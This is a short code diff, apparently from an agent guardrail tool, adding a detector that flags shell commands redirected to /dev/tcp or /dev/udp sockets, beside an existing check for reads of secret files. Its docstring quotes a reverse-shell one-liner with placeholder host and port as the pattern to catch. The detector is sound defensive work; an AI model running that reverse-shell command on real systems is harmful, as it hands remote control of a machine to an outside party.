@@ -568,3 +568,12 @@ def secret_file_read(call: Any, ctx: EvalContext, args: Mapping[str, Any]) -> li
     if isinstance(glob, str) and isinstance(ti.get("pattern"), str) and (secret_path(glob) or _glob_secret(glob)):
         return [glob]
     return []
+
+
+def shell_to_socket(cmd: SimpleCommand, ctx: EvalContext, args: Mapping[str, Any]) -> list[str]:
+    """A shell whose input or output is a /dev/tcp or /dev/udp socket (`bash -i >& /dev/tcp/HOST/PORT 0>&1`)."""
+    from guardrail.base.vocab import SHELLS
+
+    if cmd.name not in SHELLS:
+        return []
+    return [r.target for r in cmd.redirects if r.target.startswith(("/dev/tcp/", "/dev/udp/"))]
